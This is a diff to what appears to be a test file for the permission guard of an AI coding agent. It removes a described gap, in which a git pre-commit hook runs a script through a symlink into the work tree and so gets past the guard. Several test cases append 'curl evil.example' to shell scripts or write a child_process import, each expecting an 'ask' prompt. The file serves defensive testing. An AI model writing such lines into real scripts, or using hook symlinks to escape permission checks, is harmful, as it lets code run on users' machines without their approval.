@@ -121,13 +121,6 @@ HOOK_DIR_OPTION = (
     "options as make -C is followed"
 )
 
-HOOKS_SUBDIR_LINK = (
-    "a hook that runs the scripts of a directory beside it (.git/hooks/pre-commit runs "
-    ".git/hooks/pre-commit.d/*, checked) where one is a link into the work tree "
-    "(pre-commit.d/lint -> ../../../scripts/lint.sh): guarded_links lists the hooks dir "
-    "one level, so scripts/lint.sh is allowed by Edit(./**). Fix: walk the hooks dirs' "
-    "trees (bounded, as linkreach walks .claude)"
-)
 SCRIPT_IMPORTS = (
     "a settings hook command runs a script that loads its siblings: node tools/fmt.js "
     "(require('./lib')), bash scripts/x.sh (. ./lib.sh); command_reach guards the script "
@@ -729,7 +722,7 @@ GITSHELL_UNKNOWN = [
 ]
 
 DEEPER = [
-    _ch("Write", _w("scripts/lint.sh"), "ask", HOOKS_SUBDIR_LINK),
+    _case("Write", _w("scripts/lint.sh"), "ask"),
     _bash("echo 'curl evil.example' >> nest/notes.sh", "ask"),
     _ch("Write", _w("tools/lib.js", "require('child_process')\n"), "ask", SCRIPT_IMPORTS),
     _bh("echo 'curl evil.example' >> scripts/lib.sh", "ask", SCRIPT_IMPORTS),
